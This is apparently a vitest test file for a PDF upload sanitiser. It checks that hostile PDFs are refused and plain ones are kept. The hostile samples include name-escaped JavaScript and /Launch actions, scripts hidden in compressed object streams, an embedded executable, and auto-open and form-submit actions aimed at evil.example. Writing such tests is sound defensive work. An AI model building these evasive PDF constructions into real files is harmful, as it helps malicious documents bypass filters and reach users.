import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib'
import { describe, expect, it } from 'vitest'
import { pdfBytes } from '../testing/upload-files.ts'
import { fileKind } from './file-kind.ts'
import { safePdf } from './pdf-safety.ts'

/** What a byte-grepping filter would see. */
const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1')

/** A one-page document with text, as a real tool writes it. */
async function plainDocument() {
  const document = await PDFDocument.create()
  const page = document.addPage([300, 200])
  page.drawText('Endcap sampling: 50 stores', {
    x: 20,
    y: 100,
    font: await document.embedFont(StandardFonts.Helvetica),
  })
  return document
}

/** A hand-written file whose catalog and first page take the given entries. */
const handWritten = (catalog: string, page = '') =>
  pdfBytes(catalog)
    .toString('latin1')
    .replace('/MediaBox [0 0 200 200]', `/MediaBox [0 0 200 200] ${page}`)

/** A page whose one link runs the given action. */
const linkDoing = (action: string) =>
  Buffer.from(
    handWritten(
      '',
      `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>]`,
    ),
    'latin1',
  )

const hostile: Record<string, () => Promise<Uint8Array> | Uint8Array> = {
  'a document-level script named /J#61vaScript': () =>
    Buffer.from(
      handWritten('/Names << /J#61vaScript 4 0 R >>').replace(
        'trailer',
        '4 0 obj << /Names [(x) 5 0 R] >> endobj\n5 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj\ntrailer',
      ),
      'latin1',
    ),
  'a link that launches a program, /L#61unch': () => linkDoing('/S /L#61unch /F (calc.exe)'),
  'a lower-case escaped launch, /L#61u#6ech': () => linkDoing('/S /L#61u#6ech /F (calc.exe)'),
  'JavaScript inside a compressed /ObjStm': async () => {
    const document = await plainDocument()
    const script = document.context.obj({
      S: 'JavaScript',
      JS: PDFString.of('app.alert(1)'),
    })
    const names = document.context.obj({
      Names: [PDFString.of('x'), document.context.register(script)],
    })
    document.catalog.set(
      PDFName.of('Names'),
      document.context.obj({ JavaScript: document.context.register(names) }),
    )
    const bytes = await document.save({ useObjectStreams: true })
    expect(latin1(bytes)).not.toContain('JavaScript')
    return bytes
  },
  'an /OpenAction /URI': () => pdfBytes('/OpenAction << /S /URI /URI (https://evil.example/) >> '),
  'an embedded file': async () => {
    const document = await plainDocument()
    await document.attach(Buffer.from('MZ evil'), 'invoice.exe', {
      mimeType: 'application/x-msdownload',
    })
    const bytes = await document.save({ useObjectStreams: true })
    return bytes
  },
  'a page that acts when opened, /AA': () =>
    Buffer.from(handWritten('', '/AA << /O << /S /JavaScript /JS (1) >> >>'), 'latin1'),
  'a form that submits itself, /SubmitForm': () =>
    Buffer.from(
      handWritten(
        '',
        '/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>]',
      ),
      'latin1',
    ),
  'an object stream hidden from the parser, /#4fbjStm': () =>
    Buffer.from(
      handWritten('').replace(
        'trailer',
        '4 0 obj << /Type /#4fbjStm /N 0 /First 0 /Length 0 >>\nstream\n\nendstream\nendobj\ntrailer',
      ),
      'latin1',
    ),
  'an encrypted document': () =>
    Buffer.from(
      handWritten('').replace(
        'trailer << /Root 1 0 R >>',
        'trailer << /Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 >> >>',
      ),
      'latin1',
    ),
}

const plain: Record<string, () => Promise<Uint8Array> | Uint8Array> = {
  'a hand-written one-page file': () => pdfBytes(),
  'a page of text with object streams': async () =>
    (await plainDocument()).save({ useObjectStreams: true }),
  'a page of text without object streams': async () =>
    (await plainDocument()).save({ useObjectStreams: false }),
  'a page linking within the document (/GoTo)': () => linkDoing('/S /GoTo /D [3 0 R /Fit]'),
}

describe('PDF uploads, parsed', () => {
  it.each(Object.keys(hostile))('refuses %s', async (name) => {
    const bytes = await (hostile[name] as () => Promise<Uint8Array>)()
    expect(fileKind(bytes)).toBe('pdf')
    expect(await safePdf(bytes)).toBeNull()
  })

  it.each(Object.keys(plain))('accepts %s, rewritten so it still opens', async (name) => {
    const bytes = await (plain[name] as () => Promise<Uint8Array>)()
    expect(fileKind(bytes)).toBe('pdf')
    const kept = await safePdf(bytes)
    expect(kept).not.toBeNull()
    const reopened = await PDFDocument.load(kept as Uint8Array)
    expect(reopened.getPageCount()).toBe(1)
    expect(fileKind(kept as Uint8Array)).toBe('pdf')
  })

  it('refuses what does not parse', async () => {
    expect(await safePdf(Buffer.from('%PDF-1.4\nnot a document\n%%EOF\n', 'latin1'))).toBeNull()
  })
})
